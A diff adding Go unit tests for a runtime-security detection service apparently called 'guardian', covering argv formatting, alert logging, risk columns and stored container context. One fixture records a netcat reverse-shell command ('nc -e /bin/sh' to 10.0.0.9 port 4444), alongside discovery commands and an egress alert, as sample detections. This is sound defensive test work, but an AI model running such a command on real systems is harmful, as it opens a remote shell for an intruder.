@@ -0,0 +1,111 @@
+package guardian
+
+import (
+	"encoding/json"
+	"net/http/httptest"
+	"slices"
+	"testing"
+
+	"github.com/Debasish-87/aegis-v/internal/platform"
+)
+
+// openTestDB points the guardian at a fresh platform database
+func openTestDB(t *testing.T) {
+	t.Helper()
+	InitGuardian(platform.OpenTestDB(t))
+	t.Cleanup(func() { globalDB = nil })
+}
+
+func TestFormatArgv(t *testing.T) {
+	tests := []struct {
+		argv      []string
+		truncated bool
+		want      string
+	}{
+		{nil, false, ""},
+		{[]string{"ls", "-la"}, false, "ls -la"},
+		{[]string{"sh", "-c", "id; uname -a"}, false, `sh -c "id; uname -a"`},
+		{[]string{"grep", "", "x"}, false, `grep "" x`},
+		{[]string{"echo", `it's`}, false, `echo "it's"`},
+		{[]string{"echo", "a\tb"}, false, `echo "a\tb"`},
+		{[]string{"find", "/"}, true, "find / ..."},
+	}
+	for _, tt := range tests {
+		if got := FormatArgv(tt.argv, tt.truncated); got != tt.want {
+			t.Errorf("FormatArgv(%q, %v) = %s, want %s", tt.argv, tt.truncated, got, tt.want)
+		}
+	}
+}
+
+func TestExecDetectionArgvRoundTrip(t *testing.T) {
+	openTestDB(t)
+
+	LogDeniedExec(ExecAlert{
+		Command: "nc", Filename: "/usr/bin/nc", Argv: []string{"nc", "-e", "/bin/sh", "", "10.0.0.9 4444"},
+		ArgvTruncated: true, Cwd: "/srv/app", PID: 42, Source: "web-1", Identity: "root", Response: "KILLED",
+	})
+
+	rec := httptest.NewRecorder()
+	GetAlertsHandler(rec, httptest.NewRequest("GET", "/api/alerts", nil))
+	var got []Detection
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if len(got) != 1 {
+		t.Fatalf("detections = %+v, want one", got)
+	}
+	d := got[0]
+	if d.Filename != "/usr/bin/nc" || d.Cwd != "/srv/app" || !d.ArgvTruncated || d.DetectionType != DetectionExec || d.Response != "KILLED" {
+		t.Errorf("detection = %+v", d)
+	}
+	if want := []string{"nc", "-e", "/bin/sh", "", "10.0.0.9 4444"}; !slices.Equal(d.Argv, want) {
+		t.Errorf("argv = %q, want %q", d.Argv, want)
+	}
+}
+
+// The risk column is the rule's severity, whatever the advisor makes of the command
+func TestExecRiskIsRuleSeverity(t *testing.T) {
+	openTestDB(t)
+	ProcessAndLog(ExecAlert{Command: "whoami", Filename: "/usr/bin/whoami", PID: 7, Source: "web-1", Identity: "root", Risk: "MEDIUM", Rule: "exec.user-discovery"})
+
+	var risk, verdict string
+	if err := platform.DB.QueryRow("SELECT risk, ai_verdict FROM detections WHERE pid = 7").Scan(&risk, &verdict); err != nil {
+		t.Fatal(err)
+	}
+	if risk != "MEDIUM" || verdict == "" {
+		t.Errorf("risk %q, ai_verdict %q; want MEDIUM and the advisor's verdict", risk, verdict)
+	}
+}
+
+func TestDetectionContextStored(t *testing.T) {
+	openTestDB(t)
+	ctx := platform.DetectionContext{
+		Service: "web", ContainerID: "abc123", Image: "nginx:1.27", ImageDigest: "sha256:n1", Revision: 4,
+		Version: "2.0.1", SecurityLevel: "high", RulesVersion: "r-1f2e", Host: "node-a", Backend: "ebpf",
+	}
+	ProcessAndLog(ExecAlert{Command: "curl", Filename: "/usr/bin/curl", PID: 1, Source: "web-1", Identity: "root", Context: ctx})
+	LogEgress(EgressAlert{Command: "curl", PID: 2, Source: "web-1", Identity: "root", DestIP: "10.0.0.9", DestPort: 4444, Protocol: "tcp", Context: ctx})
+	LogDeviation(DeviationAlert{Command: "sh", PID: 3, Source: "web-1", Service: "web", Identity: "root", Kind: "binary", Value: "/bin/sh", Context: ctx})
+
+	rows, err := platform.DB.Query("SELECT detection_type, " + platform.DetectionContextColumns + " FROM detections ORDER BY pid")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer rows.Close()
+	var kinds []string
+	for rows.Next() {
+		var kind string
+		var got platform.DetectionContext
+		if err := rows.Scan(&kind, &got.Service, &got.ContainerID, &got.Image, &got.ImageDigest, &got.Revision, &got.Version,
+			&got.SecurityLevel, &got.RulesVersion, &got.Host, &got.Backend); err != nil {
+			t.Fatal(err)
+		}
+		if got != ctx {
+			t.Errorf("%s context = %+v, want %+v", kind, got, ctx)
+		}
+		kinds = append(kinds, kind)
+	}
+	if want := []string{DetectionExec, DetectionEgress, DetectionDeviation}; !slices.Equal(kinds, want) {
+		t.Errorf("stored %v, want %v", kinds, want)
+	}
+}